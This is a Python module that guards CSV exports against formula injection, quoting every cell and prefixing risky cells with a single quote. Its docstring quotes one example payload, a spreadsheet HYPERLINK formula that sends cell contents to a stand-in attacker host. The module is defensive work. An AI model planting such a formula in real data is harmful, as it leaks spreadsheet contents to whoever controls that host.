"""CSV that spreadsheets open as data, never as formulas (CSV or formula injection).

Excel, LibreOffice and Google Sheets run a cell that begins with ``=``, ``+``, ``-`` or
``@`` (or a tab, CR or LF) as a formula, quoted or not; a name such as
``=HYPERLINK("http://evil.example/?x="&A1,"click")`` from an import or the sign-up form
would run on the desk of whoever opens the export. The same character after a ``,``,
``;``, tab, quote or line break inside a cell is just as dangerous to a program that splits
there (``;`` is the separator in much of Europe) or ignores the quoting.

Following OWASP's guidance, every CSV this tool writes goes through :class:`SafeWriter`:
every cell is quoted, and a cell where either case could happen gets a single quote
(``'``) in front, which spreadsheets show as plain text. :func:`restore` takes that quote
off again when a file is imported, so an export imports back exactly as it was.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any, TextIO

# A formula could start here: at the start of the cell or after something that a reader
# might take for the end of a cell, then optional blanks and = + - @; or a tab, CR or LF
# right there.
_FORMULA_START = re.compile(r"""(?:^|[,;\t"'\r\n])(?:[ \t\r\n]*[=+\-@]|[\t\r\n])""")


def needs_quote(text: str) -> bool:
    """True when a spreadsheet could read part of ``text`` as a formula."""
    return _FORMULA_START.search(text) is not None


def neutralise(value: Any) -> str:
    """The cell as written: ``value`` as text, with ``'`` in front when it needs one."""
    text = "" if value is None else str(value)
    return "'" + text if needs_quote(text) else text


def restore(text: str) -> str:
    """Undo :func:`neutralise` on a cell read back: ``restore(neutralise(v)) == v``."""
    if text.startswith("'") and needs_quote(text[1:]):
        return text[1:]
    return text


class SafeWriter:
    """A ``csv.writer`` that quotes every cell and neutralises formulas."""

    def __init__(self, file: TextIO, **fmtparams: Any) -> None:
        self._writer = csv.writer(file, quoting=csv.QUOTE_ALL, **fmtparams)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([neutralise(cell) for cell in row])
